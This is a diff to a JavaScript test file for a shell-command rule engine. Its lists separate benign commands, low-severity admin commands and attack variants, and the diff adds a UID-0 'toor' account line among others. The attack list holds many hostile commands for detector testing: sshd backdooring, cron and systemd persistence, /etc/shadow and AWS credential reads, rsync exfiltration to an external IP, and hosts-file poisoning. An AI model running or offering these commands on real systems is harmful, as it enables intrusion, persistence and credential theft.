@@ -61,7 +61,7 @@ const BENIGN_LOOK_ALIKES = [
 `sudo tmux new -s work`, `sudo chroot /mnt/sysroot /bin/bash`, `sudo service k3s restart`,
 `chown node_exporter:node_exporter /usr/local/bin/node_exporter`, `nc -zv -w 2 10.0.0.5 6443`, `ssh ubuntu@10.0.0.21`, `ssh -p 2222 git@git.acme.dev`,
 `docker exec -it grafana grafana cli plugins ls`, `kubectl exec -n monitoring prometheus-0 -- wget -qO- localhost:9090/-/ready`, `docker cp grafana:/var/lib/grafana/grafana.db ./backup/`,
-`go run ./cmd/odin`, `openssl x509 -in /etc/ssl/certs/ca.pem -noout -text`, `httpd -DFOREGROUND`, `ssh -F ~/.ssh/config bastion`, `sudo ss -tlnp | grep 8000`, `scp model.safetensors ubuntu@10.0.0.21:/data/`, `locate libcuda.so`, `nginx -t -c /etc/nginx/nginx.conf`, `split -l 1000 users.csv part-`,
+`go run ./cmd/odin`, `scp /etc/rancher/k3s/registries.yaml admin@10.20.0.12:/tmp/`, `openssl x509 -in /etc/ssl/certs/ca.pem -noout -text`, `httpd -DFOREGROUND`, `ssh -F ~/.ssh/config bastion`, `sudo ss -tlnp | grep 8000`, `scp model.safetensors ubuntu@10.0.0.21:/data/`, `locate libcuda.so`, `nginx -t -c /etc/nginx/nginx.conf`, `split -l 1000 users.csv part-`,
 `truncate -s 0 app.log`, `echo hello > /var/lib/docker/volumes/x/_data/hello.txt`, `touch -m -t 202502141032.07 plugin/forward/forward.go`, `echo 10.0.0.4 k3s-server | sudo tee -a /etc/hosts`, `for h in $NODES; do dig +short $h.cluster.local; done`,
 `git clone https://github.com/acme/gpu-exporter`, `docker run --rm -it ubuntu:24.04 bash`, `./configure --prefix=/usr/local`, `sudo deluser --remove-home frank`, `systemd-run --scope -p MemoryMax=8G python3 train.py`, `curl -o /tmp/libfoo.so https://example.com/libfoo.so`, `if ! command -v k3s; then curl -sfL https://get.k3s.io | sh -; fi`,
 `python3 -c 'import subprocess; subprocess.run(["/tmp/build/run-tests.sh"])'`, `sshfs -o IdentityFile=/root/.ssh/id_ed25519 u@nas:/srv /mnt/nas`, `sudo su - postgres`, `su -s /bin/bash -c 'whoami' alice`, `curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg`,
@@ -138,7 +138,7 @@ const ATTACK_VARIANTS = [
 `cp /usr/sbin/sshd /usr/sbin/.sshd && cp /dev/shm/s /usr/sbin/sshd`, `echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config`,
 `gdb -p $(pgrep -o sshd) -batch -ex 'call (void*)dlopen("/dev/shm/h.so", 2)'`, `sudo run-parts /tmp/.jobs`, `install -m755 /tmp/.u/kt /home/ops/bin/kubectl`,
 `pwsh -c 'Set-Content -Path /etc/cron.d/upd -Value "* * * * * root /tmp/.u/run"'`, `printf '[Service]\nExecStart=/usr/bin/.updater\n' > /etc/systemd/system/upd.service`,
-`./lolMiner pool.json`, `openssl enc -base64 -in /etc/gshadow`, `ssh -F /etc/shadow localhost`, `busybox httpd -f -p 8000 -h /`, `rsync -az ./models/ root@45.77.1.9:/srv/`, `split -b 2M /dev/shm/.c/out.zip /dev/shm/.c/p.`, `locate id_rsa`,
+`./lolMiner pool.json`, `useradd -ou 0 -g 0 toor`, `openssl enc -base64 -in /etc/gshadow`, `ssh -F /etc/shadow localhost`, `busybox httpd -f -p 8000 -h /`, `rsync -az ./models/ root@45.77.1.9:/srv/`, `split -b 2M /dev/shm/.c/out.zip /dev/shm/.c/p.`, `locate id_rsa`,
 `haproxy -f /dev/shm/.h.cfg`, `echo 'x' >> /var/lib/dpkg/info/openssh-server.postinst`, `truncate -s 20M /dev/shm/.k`, `mv x $'/usr/bin/ls\u202e'`,
 `echo 'cat /etc/shadow > /var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs/o' > /tmp/x.sh`, `./posh`, `PAGER='cat ~/.aws/credentials' git log`, `./bash -p`, `docker pull ghcr.io/x/cve-2024-21626-poc:latest`, `tar xf ops@files.example.net:/k.tar --rsh-command=/usr/bin/ssh`,
 `git clone https://github.com/nicocha30/ligolo-ng.git`, `echo '185.22.9.4 pypi.org' | sudo tee -a /etc/hosts`, `for i in 192.168.1.{1..254}; do ping -c1 -W1 $i; done`,
@@ -161,7 +161,7 @@ const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any -w /var/tmp/all.pcap`, `tcpdump -nA port 80`, `tshark -i eth0`, `useradd -m -s /bin/bash -G sudo alice`,
   `adduser alice`, `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
   `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
-  `mount -o remount,hidepid=2 /proc`, `sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
+  `mount -o remount,hidepid=2 /proc`, `useradd -o -m -u 1000 -g 1000 -s /bin/bash loki`, `sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
 ];
 
 describe('rule engine on command lines', () => {
